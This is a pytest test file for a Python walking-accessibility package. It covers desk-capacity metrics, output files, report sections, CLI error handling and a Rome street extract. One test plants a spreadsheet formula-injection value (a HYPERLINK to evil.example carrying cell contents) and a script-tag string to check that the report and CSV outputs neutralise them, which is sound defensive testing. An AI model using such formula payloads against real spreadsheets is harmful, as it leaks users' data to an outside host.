"""Capacity wired in: analyze's zone columns and summary blocks, spaces.csv/spaces.gpkg,
the report's sections, the CLI options and bad seats, and the Esquilino extract."""

from __future__ import annotations

import csv
import json
import re
import warnings
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from test_rome import placed_spaces

import fifteenmin as fm
from fifteenmin import _names as N
from fifteenmin import capacity as C
from fifteenmin._tables import spreadsheet_safe
from fifteenmin.cli import main
from fifteenmin.outputs.folder import space_table
from fifteenmin.outputs.report import report_html

TARGET = 20.0
CAPACITY = [N.DEMAND, "seats_per_1000_2sfca", "seats_per_1000_e2sfca", "seats_2sfca"]
CAPACITY += ["seats_e2sfca", "target_seats", "shortfall_seats", "shortfall_seats_e2sfca"]
WORTH = ["residents_15min", "sole_residents_15min", "seats_per_1000_residents_15min"]


@pytest.fixture(scope="module")
def targeted(sample_city) -> fm.Analysis:
    """The sample city with a target, half the residents as demand and the linear decay."""
    return fm.analyze(
        sample_city.network,
        sample_city.spaces,
        sample_city.zones,
        population_column="population",
        seats_per_1000=TARGET,
        demand_share=0.5,
        decay="linear",
    )


@pytest.fixture(scope="module")
def written(targeted, tmp_path_factory) -> Path:
    return targeted.write(tmp_path_factory.mktemp("capacity") / "out")


def spaces_file(city: fm.sample.SampleCity, folder: Path, seats: dict[int, str]) -> Path:
    """The sample city's spaces CSV with some seats cells replaced (row index -> text)."""
    table = pd.read_csv(city.spaces, dtype=str, keep_default_na=False)
    for i, value in seats.items():
        table.loc[i, "seats"] = value
    path = folder / "spaces.csv"
    table.to_csv(path, index=False)
    return path


# ---------------------------------------------------------------- analyze


def test_zone_columns_are_capacitys(targeted):
    cap = C.capacity(targeted, seats_per_1000=TARGET, demand_share=0.5, kernel="linear")
    for column in CAPACITY:
        np.testing.assert_allclose(
            targeted.zones[column].to_numpy(float), cap[column].to_numpy(float), equal_nan=True
        )
    pd.testing.assert_frame_equal(
        pd.DataFrame(targeted.capacity.drop(columns="geometry")),
        pd.DataFrame(cap.drop(columns="geometry")),
    )
    rob = C.zone_robustness(targeted)
    for column in ("pop_2plus_15min", "share_pop_2plus_15min"):
        np.testing.assert_allclose(
            targeted.zones[column].to_numpy(float), rob[column].to_numpy(float), equal_nan=True
        )
    # the residents within reach agree with the zone figures
    counted = targeted.counted
    np.testing.assert_allclose(
        rob.loc[counted, "pop_15min"], targeted.zones.loc[counted, "pop_15min"], rtol=1e-9
    )


def test_defaults_without_target(sample_analysis):
    zones = sample_analysis.zones
    assert "seats_per_1000_2sfca" in zones and "shortfall_seats" not in zones
    cap = C.capacity(sample_analysis)  # gaussian, all residents
    np.testing.assert_allclose(
        zones["seats_per_1000_e2sfca"].to_numpy(float),
        cap["seats_per_1000_e2sfca"].to_numpy(float),
        equal_nan=True,
    )
    assert sample_analysis.summary["capacity"]["kernel"] == "gaussian"
    assert sample_analysis.summary["capacity"]["seats_per_1000"] is None


def test_worth_and_summary(targeted):
    worth = targeted.space_worth
    pd.testing.assert_frame_equal(
        pd.DataFrame(worth.drop(columns="geometry")),
        pd.DataFrame(C.space_worth(targeted).drop(columns="geometry")),
    )
    a = worth.attrs
    assert a["residents_covered"] == pytest.approx(
        worth["sole_residents_15min"].sum() + a["residents_covered_2plus"], rel=1e-12
    )
    block = targeted.summary["spaces"]
    assert block["residents_sole"] == pytest.approx(worth["sole_residents_15min"].sum())
    assert block["residents_covered"] == pytest.approx(
        block["residents_sole"] + block["residents_2plus"], rel=1e-9
    )
    sole = [r["sole_residents"] for r in block["top_sole"]]
    assert sole == sorted(sole, reverse=True) and len(sole) == min(15, len(worth))
    assert sole[0] == pytest.approx(worth["sole_residents_15min"].max())
    cap = targeted.summary["capacity"]
    counted = targeted.zones.loc[targeted.counted]
    assert cap["demand"] == pytest.approx(0.5 * counted[N.POPULATION].sum())
    assert cap["seats_per_1000_2sfca"] == pytest.approx(
        1000 * counted["seats_2sfca"].sum() / cap["demand"]
    )
    assert cap["shortfall_seats"] == pytest.approx(counted["shortfall_seats"].sum())
    assert cap["zones_short"] == int((counted["shortfall_seats"] > 0).sum())
    assert (cap["kernel"], cap["demand_share"], cap["seats_per_1000"]) == ("linear", 0.5, TARGET)
    worst = [r["shortfall_seats"] for r in cap["largest_shortfall"]]
    assert worst == sorted(worst, reverse=True) and worst[0] == pytest.approx(
        counted["shortfall_seats"].max()
    )


def test_without_residents_nothing_is_computed(sample_city):
    result = fm.analyze(sample_city.network, sample_city.spaces, sample_city.zones)
    assert result.capacity is None and result.space_worth is None
    assert "capacity" not in result.summary and "spaces" not in result.summary
    assert "pop_2plus_15min" not in result.zones and "residents_15min" not in result.spaces
    html = report_html(result, map_png=b"")
    assert 'id="capacity"' not in html and 'id="space-worth"' not in html


def test_a_target_that_cannot_be_assessed_is_warned_of(sample_city, tmp_path):
    with pytest.warns(UserWarning, match="no residents in the counted zones: the target of 20"):
        result = fm.analyze(
            sample_city.network, sample_city.spaces, sample_city.zones, seats_per_1000=20
        )
    assert result.capacity is None
    spaces = spaces_file(sample_city, tmp_path, dict.fromkeys(range(14), ""))
    with pytest.warns(UserWarning, match="no space has a number of seats: the target of 20"):
        result = fm.analyze(
            sample_city.network,
            spaces,
            sample_city.zones,
            population_column="population",
            seats_per_1000=20,
        )
    assert result.capacity is None and "capacity" not in result.summary
    assert result.space_worth["seats"].isna().all()
    assert any(
        "no space has a number of seats" in w for w in result.summary["data_quality"]["warnings"]
    )


def test_input_columns_named_like_outputs_are_kept_apart(sample_city, tmp_path):
    zones = gpd.read_file(sample_city.zones)
    zones["demand"] = 7
    zones["Seats_2sfca"] = 8
    zones.to_file(tmp_path / "zones.geojson")
    table = pd.read_csv(sample_city.spaces)
    table["residents_15min"] = 9
    table.to_csv(tmp_path / "spaces.csv", index=False)
    result = fm.analyze(
        sample_city.network,
        tmp_path / "spaces.csv",
        tmp_path / "zones.geojson",
        population_column="population",
    )
    assert (result.zones["src_demand"] == 7).all() and (result.zones["src_Seats_2sfca"] == 8).all()
    assert (result.zones["demand"] != 7).any()
    assert (result.spaces["src_residents_15min"].astype(str) == "9").all()  # text of a CSV
    assert (result.spaces["residents_15min"] != 9).all()


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"seats_per_1000": 0}, "target of 0 seats per 1,000"),
        ({"seats_per_1000": -2}, "not a positive number"),
        ({"demand_share": 0}, r"demand share 0 is outside \(0, 1\]"),
        ({"demand_share": 1.2}, r"outside \(0, 1\]"),
        ({"decay": "cauchy"}, "not one of gaussian, linear, step"),
    ],
)
def test_bad_options_before_the_network(sample_city, options, message):
    with pytest.raises(fm.errors.InputError, match=message):
        fm.analyze("no-such-network.osm", sample_city.spaces, sample_city.zones, **options)


# ---------------------------------------------------------------- written files


def test_spaces_files(written, targeted):
    gpkg = gpd.read_file(written / "spaces.gpkg", layer="spaces")
    table = pd.read_csv(written / "spaces.csv")
    worth = targeted.space_worth
    for frame in (gpkg, table):
        assert {"space_id", "seats", "access_m", *WORTH} <= set(frame.columns)
        np.testing.assert_allclose(frame[WORTH].to_numpy(float), worth[WORTH].to_numpy(float))
    points = targeted.walk.spaces.to_crs(4326)
    np.testing.assert_allclose(table["lat"], points.geometry.y)
    np.testing.assert_allclose(table["lon"], points.geometry.x)


def test_zones_and_summary_files(written, targeted):
    csv_zones = pd.read_csv(written / "zones.csv")
    gpkg = gpd.read_file(written / "zones.gpkg", layer="zones")
    for frame in (csv_zones, gpkg):
        for column in [*CAPACITY, "pop_2plus_15min", "share_pop_2plus_15min"]:
            np.testing.assert_allclose(
                frame[column].to_numpy(float),
                targeted.zones[column].to_numpy(float),
                equal_nan=True,
            )
    summary = json.loads((written / "summary.json").read_text(encoding="utf-8"))
    assert summary["capacity"]["seats_total"] == pytest.approx(targeted.walk.spaces["seats"].sum())
    assert summary["spaces"]["top_sole"][0]["space_id"] == str(
        targeted.space_worth.sort_values("sole_residents_15min").iloc[-1]["space_id"]
    )
    assert summary["parameters"]["demand_share"] == 0.5


@pytest.mark.parametrize("lang", ["en", "it"])
def test_report_sections(targeted, lang):
    html = report_html(targeted, lang=lang, map_png=b"")
    titles = {"en": ("What each space is worth", "Desks per resident"),
              "it": ("Quanto vale ogni spazio", "Postazioni per residente")}[lang]  # fmt: skip
    for section, title in zip(("space-worth", "capacity"), titles, strict=True):
        found = re.search(f'<section id="{section}"><h2>([^<]+)</h2>', html)
        assert found and found[1] == title
    cap = targeted.summary["capacity"]
    value = re.search(r'id="cap-2sfca" data-value="([^"]+)"', html)
    assert value and float(value[1]) == cap["seats_per_1000_2sfca"]
    value = re.search(r'id="cap-shortfall" data-value="([^"]+)"', html)
    assert value and float(value[1]) == cap["shortfall_seats"]
    rows = re.findall(r'<tr data-space="([^"]+)" data-sole="([^"]+)"', html)
    top = targeted.summary["spaces"]["top_sole"]
    assert [r[0] for r in rows] == [r["space_id"] for r in top]
    assert [float(r[1]) for r in rows] == [r["sole_residents"] for r in top]
    shortfall = re.search(r'<table class="shortfall">.*?</table>', html, re.S)
    assert shortfall and shortfall[0].count("<tr>") == 1 + len(cap["largest_shortfall"])


def test_report_escapes_space_names(sample_city, tmp_path):
    formula, script = '=HYPERLINK("http://evil.example/?"&A1,"x")', "<!--<script>"
    table = pd.read_csv(sample_city.spaces)
    table["name"] = table["name"].astype(object)
    table.loc[:, "name"] = script  # every space, so the ones listed are named so
    table.loc[0, "name"] = formula
    table.to_csv(tmp_path / "spaces.csv", index=False)
    result = fm.analyze(
        sample_city.network,
        tmp_path / "spaces.csv",
        sample_city.zones,
        population_column="population",
    )
    html = report_html(result, map_png=b"")
    assert "&lt;!--&lt;script&gt;" in html and script not in html
    # spaces.csv as write() writes it (test_spaces_files checks the written file)
    spreadsheet_safe(space_table(result.spaces)).to_csv(tmp_path / "s.csv", index=False)
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'" + formula in cells and formula not in cells


# ---------------------------------------------------------------- CLI


def cli_args(city, *, spaces=None, extra=()) -> list[str]:
    return [
        "analyze",
        "--network",
        str(city.network),
        "--spaces",
        str(spaces or city.spaces),
        "--zones",
        str(city.zones),
        "--population-column",
        "population",
        *extra,
    ]


def run_bad(argv: list[str], out: Path, capsys) -> str:
    """Exit 2, one error line (argparse prints its usage first), nothing written."""
    try:
        rc = main([*argv, "--out", str(out), "--quiet"])
    except SystemExit as exc:  # argparse refused an option
        rc = exc.code
    err = capsys.readouterr().err.strip()
    assert rc == 2 and "Traceback" not in err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1 and err.splitlines()[-1] == errors[0], err
    assert not out.exists()
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".fm")] == []
    return errors[0]


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--seats-per-1000", "0"),
        ("--seats-per-1000", "-5"),
        ("--seats-per-1000", "abc"),
        ("--demand-share", "0"),
        ("--demand-share", "1.5"),
        ("--decay", "cauchy"),
    ],
)
def test_cli_bad_options(sample_city, tmp_path, capsys, option, value):
    msg = run_bad(cli_args(sample_city, extra=[option, value]), tmp_path / "out", capsys)
    assert option in msg


@pytest.mark.parametrize(("value", "shown"), [("-3", "has -3 seats"), ("abc", "'abc'")])
def test_cli_bad_seats(sample_city, tmp_path, capsys, value, shown):
    spaces = spaces_file(sample_city, tmp_path, {2: value})
    msg = run_bad(cli_args(sample_city, spaces=spaces), tmp_path / "out", capsys)
    assert msg.startswith("fifteenmin: error: ") and "space 'S03'" in msg and shown in msg


def test_cli_bad_seats_in_a_geojson(sample_city, tmp_path, capsys):
    table = pd.read_csv(sample_city.spaces)
    table["seats"] = table["seats"].astype(object)
    table.loc[4, "seats"] = "many"
    gdf = gpd.GeoDataFrame(
        table.drop(columns=["lat", "lon"]),
        geometry=gpd.points_from_xy(table["lon"], table["lat"]),
        crs=4326,
    )
    gdf.to_file(tmp_path / "spaces.geojson")
    msg = run_bad(
        cli_args(sample_city, spaces=tmp_path / "spaces.geojson"), tmp_path / "out", capsys
    )
    assert "space 'S05' has 'many' seats" in msg


def test_cli_missing_seats(sample_city, tmp_path, capsys):
    spaces = spaces_file(sample_city, tmp_path, {0: "", 4: ""})
    out = tmp_path / "out"
    args = [*cli_args(sample_city, spaces=spaces, extra=["--seats-per-1000", "20"])]
    assert main([*args, "--out", str(out)]) == 0
    printed = capsys.readouterr()
    assert "desks within 15 min per 1,000 residents" in printed.out
    assert "2 space(s) without a number of seats" in printed.err
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    said = summary["data_quality"]["warnings"]
    assert any(re.search(r"2 space\(s\) without a number of seats.*S01, S05", w) for w in said)
    cap = summary["capacity"]
    assert cap["spaces_without_seats"]["ids"] == ["S01", "S05"]
    assert cap["spaces_with_seats"] == 12
    seats = pd.read_csv(spaces)["seats"]
    assert cap["seats_total"] == pytest.approx(seats.sum())  # the empty ones left out
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "2 of 14 spaces have no number of seats" in html and "S01, S05" in html


# ---------------------------------------------------------------- Rome


def test_esquilino_capacity_columns(rome_file):
    path = rome_file("network/rome_esquilino_2016.osm")
    zones = rome_file("boundaries/roma_zone_urbanistiche_155_pop.geojson")
    streets = fm.read_streets(path)
    spaces = placed_spaces(streets, 6, seed=11)
    spaces["seats"] = [12, 40, 8, None, 60, 30]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zones without street data, no seats
        result = fm.analyze(streets, spaces, zones, population_column="pop2018", seats_per_1000=5)
    counted = result.counted
    assert 0 < counted.sum() < len(counted)
    for column in [*CAPACITY, "pop_2plus_15min", "share_pop_2plus_15min"]:
        values = result.zones[column].to_numpy(float)
        assert np.isfinite(values[counted]).all(), column
        assert np.isnan(values[~counted]).all(), column
    cap = result.summary["capacity"]
    assert cap["spaces_without_seats"]["ids"] == ["t3"]
    assert all(np.isfinite(cap[k]) for k in ("seats_per_1000_2sfca", "shortfall_seats"))
    assert np.isfinite(result.space_worth[WORTH[:2]].to_numpy(float)).all()
